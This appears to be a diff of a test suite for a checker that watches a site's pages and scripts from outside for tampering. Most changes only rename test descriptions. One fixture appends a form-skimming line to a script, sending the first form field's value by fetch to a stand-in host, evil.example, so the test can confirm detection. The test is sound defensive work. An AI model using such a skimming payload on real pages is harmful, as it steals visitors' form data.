@@ -102,7 +102,7 @@ describe('the check of the pages from outside', () => {
     expect(metric).toEqual([1]);
   });
 
-  it('finds a script that was exchanged, and what it is now', async () => {
+  it('the check of the pages finds an exchanged script, and its present content', async () => {
     const path = `/assets/${pages.capture.file}`;
     changing(path, (answer) => {
       const text = `${answer.body}fetch("https://evil.example?"+document.forms[0].elements[0].value)`;
@@ -166,7 +166,7 @@ describe('the check of the pages from outside', () => {
     expect(told).toContainEqual(expect.objectContaining({ what: name, found: value }));
   });
 
-  it('lets an edge add what changes nothing for browsers', async () => {
+  it("the check of the pages accepts an edge's additions without effect on browsers", async () => {
     edge.onTheWay = (_, { headers }) => {
       Object.assign(headers, {
         via: '1.1 edge',
@@ -186,7 +186,7 @@ describe('the check of the pages from outside', () => {
     expect((await checked()).found).toEqual([`${form}: status`, `${form}: location`]);
   });
 
-  it('finds what only people are served: it asks as a browser does', async () => {
+  it("the check of the pages finds content served only to people: it sends a browser's headers", async () => {
     edge.onTheWay = (path, answer, headers) => {
       const isPerson = /Mozilla.*Chrome/.test(headers['user-agent'] ?? '');
       const isScript = headers['sec-fetch-dest'] === 'script' && path.includes('capture');
@@ -195,7 +195,7 @@ describe('the check of the pages from outside', () => {
     expect((await checked()).found).toEqual([`/assets/${pages.capture.file}: bytes`]);
   });
 
-  it('reads what comes packed as a browser does', async () => {
+  it('the check of the pages reads compressed content as a browser does', async () => {
     edge.onTheWay = (_, answer) => {
       answer.body = gzipSync(answer.body);
       answer.headers['content-encoding'] = 'gzip';
@@ -222,7 +222,7 @@ describe('the check of the pages from outside', () => {
     expect(metric).toEqual([everything.length]);
   });
 
-  it('wants what the inventory approves, and not what was built last', async () => {
+  it("the check of the pages requires the inventory's approved content, and not the latest build's", async () => {
     const lines: string[] = [];
     const approvedOnce = inventory.map((one) =>
       one.file === 'show.js' ? { ...one, integrity: `sha384-${'A'.repeat(64)}` } : one,
